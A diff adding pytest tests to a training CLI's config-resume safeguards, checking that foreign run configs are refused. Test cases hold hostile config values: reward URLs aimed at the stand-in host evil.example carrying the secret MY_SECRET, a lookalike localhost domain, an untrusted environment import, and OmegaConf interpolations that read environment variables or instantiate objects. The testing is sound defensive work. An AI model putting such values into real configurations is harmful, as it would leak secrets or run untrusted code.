@@ -6,15 +6,17 @@ import json
 import shutil
 import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
 import yaml
 
 from pggrpo_cli.cli import main
 from pggrpo_cli.config import as_dict, typed
-from pggrpo_cli.errors import CheckpointError
+from pggrpo_cli.errors import CheckpointError, ConfigError
 from pggrpo_cli.hydra_start import compose
-from pggrpo_cli.run_directory import changed_keys, may_change, save_config
+from pggrpo_cli.run_directory import changed_keys, may_change, resume_command, save_config
+from pggrpo_cli.run_overrides import refuse_targets
 from tests.command_line import PretendedTraining, make_checkpoint, make_groups
 
 pytest_plugins = ["tests.command_fixtures"]
@@ -128,6 +130,87 @@ def test_a_run_from_elsewhere_does_not_filter_its_rows_with_its_file(
     assert "security.allow_targets=[pggrpo_cli.filters.Sieve]" in err
     assert training.calls == []
     assert main(["resume", "run", "security.allow_targets=[parts,pggrpo_cli.filters.Sieve]"]) == 0
+
+
+def composed_reward(*words: str) -> dict[str, Any]:
+    return as_dict(typed(compose("train", ["model=tiny", "logger=[]", *words])))["reward"]
+
+
+JUDGED = ["reward=judge", "reward.judge.model=m"]
+JUDGE, HTTP = "pggrpo_cli.reward.judge.Judge", "pggrpo_cli.reward.http.Http"
+
+
+@pytest.mark.parametrize(("words", "target", "said"), [
+    (["reward=http", "reward.http.url=https://evil.example/x", "+reward.http.headers_env.X-A=MY_SECRET"], HTTP,
+     "the server evil.example, which is sent the environment variable MY_SECRET"),
+    (["reward=http", "reward.http.url=http://127.0.0.1:9/x", "+reward.http.headers_env.X-A=MY_SECRET"], HTTP,
+     "the server 127.0.0.1, which is sent the environment variable MY_SECRET"),
+    ([*JUDGED, "reward.judge.url=https://evil.example/v1", "reward.judge.key_env=MY_SECRET"], JUDGE,
+     "the server evil.example, which is sent the environment variable MY_SECRET"),
+    ([*JUDGED, "reward.judge.url=https://evil.example/v1"], JUDGE,
+     "the server evil.example, which is sent prompts and completions"),
+    ([*JUDGED, "reward.judge.url=http://127.0.0.1.evil.example/v1"], JUDGE, "the server 127.0.0.1.evil"),
+    ([*JUDGED], None, ""),
+    ([*JUDGED, "reward.judge.url=http://localhost:1/v1"], None, ""),
+    (["reward=http", "reward.http.url='http://[::1]:9/x'"], None, ""),
+    (["reward=verifiers", "reward.verifiers.environment=evil_env"], "pggrpo_cli.reward.verifiers.Verifiers",
+     "the code of the environment evil_env"),
+])  # fmt: skip
+@pytest.mark.fault("T30")
+def test_a_run_from_elsewhere_does_not_choose_who_is_told_or_what_is_imported(
+    run: Path,
+    words: list[str],
+    target: str | None,
+    said: str,
+    training: PretendedTraining,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    monkeypatch.setenv("MY_SECRET", "canary")
+    values = yaml.safe_load((run / "config.yaml").read_text())
+    values["reward"] = composed_reward(*words)
+    (run / "config.yaml").write_text(yaml.safe_dump(values))
+    command = resume_command(values, run)
+    if target is None:
+        assert "pggrpo_cli" not in command
+        assert main(["resume", "run", ALLOW]) == 0
+        return
+    assert main(["resume", "run", ALLOW]) == 2
+    err = capsys.readouterr().err
+    assert said in err
+    assert f"security.allow_targets=[{target}]" in err
+    assert "canary" not in err
+    assert training.calls == []
+    assert target in command
+    assert main(["resume", "run", f"security.allow_targets=[parts,{target}]"]) == 0
+
+
+@pytest.mark.parametrize("nested", [False, True])
+@pytest.mark.fault("T30")
+def test_an_environment_as_data_is_code(run: Path, nested: bool, capsys: pytest.CaptureFixture[str]) -> None:
+    values = yaml.safe_load((run / "config.yaml").read_text())
+    target = "pggrpo_cli.data.verifiers.Verifiers"
+    node = {"_target_": target, "environment": "evil_env", "options": {}, "size": None, "eval_size": 4}
+    values["data"] = {"_target_": "parts.Part", "inner": [node]} if nested else values["data"] | node
+    with pytest.raises(
+        ConfigError, match=r"the code of the environment evil_env .*\[pggrpo_cli\.data\.verifiers\.Verifiers\]"
+    ):
+        refuse_targets(values, ["parts"], typed=())
+    refuse_targets(values, ["parts", target], typed=())
+
+
+@pytest.mark.fault("T30")
+def test_a_run_from_elsewhere_looks_nothing_up(
+    run: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Hydra resolves what it instantiates, and so would build the class that an interpolation makes."""
+    values = yaml.safe_load((run / "config.yaml").read_text())
+    values["reward"] = composed_reward("reward=regex", "reward.regex.pattern=x")
+    for text in ("${oc.env:HOME}", "${oc.create:{_target_:os.getcwd}}", "\\${oc.env:HOME}"):
+        values["reward"]["regex"]["pattern"] = text
+        (run / "config.yaml").write_text(yaml.safe_dump(values))
+        assert main(["resume", "run", ALLOW]) == 2
+        assert "`reward.regex.pattern`: holds an interpolation" in capsys.readouterr().err
 
 
 @pytest.mark.parametrize("target", ["pggrpo_cli.reward.python._load", "pggrpo_cli.instantiate.component"])
